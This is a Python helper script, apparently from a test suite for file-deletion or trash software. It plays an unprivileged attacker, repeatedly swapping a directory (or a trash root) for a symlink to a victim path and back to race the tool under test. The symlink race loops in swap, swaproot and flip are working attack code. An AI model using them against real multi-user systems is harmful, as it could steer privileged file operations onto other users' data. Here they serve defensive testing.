"""Another user's side of the safety tests: run as uid 65534 through setpriv.

    python attacker.py swap THEIRDIR VICTIM FILES DELAY_US STOPFILE

fills THEIRDIR with FILES files and a subdirectory `sub`, says "ready" on stdout,
then keeps swapping `sub` for a symlink to VICTIM and back, pausing DELAY_US between
swaps, until STOPFILE exists or THEIRDIR is gone.

    python attacker.py swaproot ROOT THEIRS STOPFILE

says "ready", then keeps swapping the directory ROOT (someone's trash root, in a
topdir anyone may write) for a symlink to THEIRS and back, until STOPFILE exists.

    python attacker.py flip THEIRDIR VICTIM FILES STOPFILE

fills THEIRDIR with x0..x<FILES-1> (content ATT), says "ready", then keeps renaming
THEIRDIR aside, putting a symlink to VICTIM in its place, and renaming it back, with
no pause, until STOPFILE exists.
"""

import os
import sys
import time


def swap(theirdir, victim, files, delay_us, stopfile):
    os.makedirs(os.path.join(theirdir, "sub"))
    for i in range(files):
        with open(os.path.join(theirdir, f"f{i:05d}"), "w") as handle:
            handle.write("x")
    for i in range(20):
        open(os.path.join(theirdir, "sub", f"s{i}"), "w").close()
    print("ready", flush=True)
    sub, away = os.path.join(theirdir, "sub"), os.path.join(theirdir, "sub.away")
    deadline = time.monotonic() + 60
    while not os.path.exists(stopfile) and time.monotonic() < deadline:
        try:
            os.rename(sub, away)
            os.symlink(victim, sub)
            time.sleep(delay_us / 1e6)
            os.unlink(sub)
            os.rename(away, sub)
        except OSError:
            if not os.path.isdir(theirdir):
                return
            try:
                os.makedirs(sub, exist_ok=True)
            except OSError:
                pass


def swaproot(root, theirs, stopfile):
    print("ready", flush=True)
    away = root + ".away"
    deadline = time.monotonic() + 60
    while not os.path.exists(stopfile) and time.monotonic() < deadline:
        try:
            if os.path.isdir(root) and not os.path.islink(root):
                os.rename(root, away)
                os.symlink(theirs, root)
            else:
                os.unlink(root)
                os.rename(away, root)
        except OSError:
            pass


def flip(theirdir, victim, files, stopfile):
    os.makedirs(theirdir)
    for i in range(files):
        with open(os.path.join(theirdir, f"x{i}"), "w") as handle:
            handle.write("ATT")
    print("ready", flush=True)
    away = theirdir + ".r"
    deadline = time.monotonic() + 60
    while not os.path.exists(stopfile) and time.monotonic() < deadline:
        try:
            os.rename(theirdir, away)
            os.symlink(victim, theirdir)
            os.unlink(theirdir)
            os.rename(away, theirdir)
        except OSError:
            pass


if __name__ == "__main__":
    command, *args = sys.argv[1:]
    if command == "swap":
        theirdir, victim, files, delay, stopfile = args
        swap(theirdir, victim, int(files), int(delay), stopfile)
    elif command == "flip":
        theirdir, victim, files, stopfile = args
        flip(theirdir, victim, int(files), stopfile)
    elif command == "swaproot":
        swaproot(*args)
